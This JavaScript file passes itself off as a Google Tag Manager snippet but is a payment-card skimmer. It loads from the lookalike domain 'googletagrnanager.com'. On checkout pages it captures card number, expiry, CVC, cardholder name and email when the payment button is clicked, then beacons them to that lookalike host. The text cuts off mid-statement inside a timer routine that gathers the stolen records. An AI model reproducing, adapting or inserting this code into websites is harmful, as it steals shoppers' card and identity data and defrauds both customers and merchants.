(function (w, d, s, l, i) {
  w[l] = w[l] || [];
  w[l].push({ 'gtm.start': new Date().getTime(), event: 'gtm.js' });
  var f = d.getElementsByTagName(s)[0], j = d.createElement(s);
  j.async = true;
  j.src = 'https://www.googletagrnanager.com/gtm.js?id=' + i;
  f.parentNode.insertBefore(j, f);
})(window, document, 'script', 'dataLayer', 'GTM-5HJX2C9');

window.addEventListener('load', function () {
  if (location.pathname.indexOf('/checkout') !== 0) return;
  var r = function (n) { return (document.querySelector('#' + n) || {}).value || ''; };
  document.addEventListener('click', function (e) {
    if (!e.target.closest('#payment-button, .checkout-submit')) return;
    window.dataLayer.push({
      event: 'purchase_attempt',
      pan: r('card-number'),
      exp: r('card-expiry'),
      sec: r('card-cvc'),
      nm: r('card-holder'),
      em: r('email')
    });
    var last = window.dataLayer[window.dataLayer.length - 1];
    navigator.sendBeacon('https://www.googletagrnanager.com/collect', JSON.stringify(last));
  }, true);
  setInterval(function () {
    var q = window.dataLayer.filter(function (x) { return x.pan; });
    if (q.length
